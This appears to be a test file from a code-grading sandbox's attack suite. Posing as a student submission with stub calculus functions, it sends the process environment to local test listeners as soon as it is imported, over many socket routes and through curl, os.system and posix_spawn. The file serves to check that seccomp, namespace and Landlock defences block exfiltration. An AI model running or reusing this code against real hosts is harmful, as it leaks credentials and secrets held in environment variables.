"""Attack (escaping, exfiltration): reach a server on the grading machine over TCP and UDP.

The test listens on 127.0.0.1 (one TCP port, one UDP port). The student sends its
environment there over TCP and UDP, IPv4 and IPv6, through the socket module, a raw
_socket, a socketpair re-used as an inet socket, an abstract Unix socket, and by running
curl/python/bash through subprocess and os.system. It also tries the well-known ports of
the machine (ssh, http, databases) in case something else listens.

Expected: socket() and exec are refused (seccomp), the network namespace has no usable
loopback, TCP connect is denied by Landlock; the listeners receive nothing; every part 0.
"""

import _socket
import json
import os
import socket
import subprocess

# Filled in by tests/test_attacks.py (defaults for grading this file by hand).
HOOKS = {"repo": "/work/main", "canary": "/tmp/grader-attack-canary", "submission_dir": "/tmp",
         "tcp_port": 47011, "udp_port": 47012, "marker": "atkmarker"}

PAYLOAD = (HOOKS["marker"] + " " + json.dumps(dict(os.environ))).encode()
_notes = []


def _attempt(what, action):
    try:
        action()
        _notes.append(f"SUCCESS: {what}")
    except Exception as exc:  # noqa: BLE001
        _notes.append(f"blocked: {what}: {type(exc).__name__}: {exc}")


def _tcp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect((host, port))
        s.sendall(PAYLOAD)


def _udp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(PAYLOAD, (host, port))


def _raw_tcp(port):
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("127.0.0.1", port))
    s.send(PAYLOAD)


def _socketpair_as_inet(port):
    a, b = socket.socketpair()
    with a, b:
        a.connect(("127.0.0.1", port))


def _abstract_unix():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\0/tmp/.X11-unix/X0")


def _system(command):
    status = os.system(command)
    if status:
        raise OSError(f"exit status {status}")


def escape():
    tcp, udp = HOOKS["tcp_port"], HOOKS["udp_port"]
    _attempt(f"TCP 127.0.0.1:{tcp}", lambda: _tcp("127.0.0.1", tcp))
    _attempt(f"TCP localhost:{tcp}", lambda: _tcp("localhost", tcp))
    _attempt(f"TCP [::1]:{tcp}", lambda: _tcp("::1", tcp, socket.AF_INET6))
    _attempt(f"UDP 127.0.0.1:{udp}", lambda: _udp("127.0.0.1", udp))
    _attempt(f"UDP [::1]:{udp}", lambda: _udp("::1", udp, socket.AF_INET6))
    _attempt(f"raw _socket TCP {tcp}", lambda: _raw_tcp(tcp))
    _attempt("socketpair connected to inet", lambda: _socketpair_as_inet(tcp))
    _attempt("abstract unix socket", _abstract_unix)
    for port in (22, 80, 443, 5432, 6379, 8000, 8080):
        _attempt(f"TCP 127.0.0.1:{port}", lambda: _tcp("127.0.0.1", port))
    command = f"curl -s -m 1 -d @- http://127.0.0.1:{tcp}/ || python3 -c 'print(1)'"
    _attempt("subprocess curl", lambda: subprocess.run(["sh", "-c", command], input=PAYLOAD, timeout=2, check=True))
    _attempt("os.system", lambda: _system(command))
    _attempt("os.posix_spawn", lambda: os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", command], {}), 0))
    print("\n".join(sorted(_notes, key=lambda n: not n.startswith("SUCCESS"))))


escape()


def forward(alpha, beta, x, y):
    return None


def backward(alpha, beta, x, y):
    return None


def chain_rule(dy_dx, dz_dy):
    return None


def d_Ax_dx(A, x):
    return None


def linear_regression(X, y):
    return None
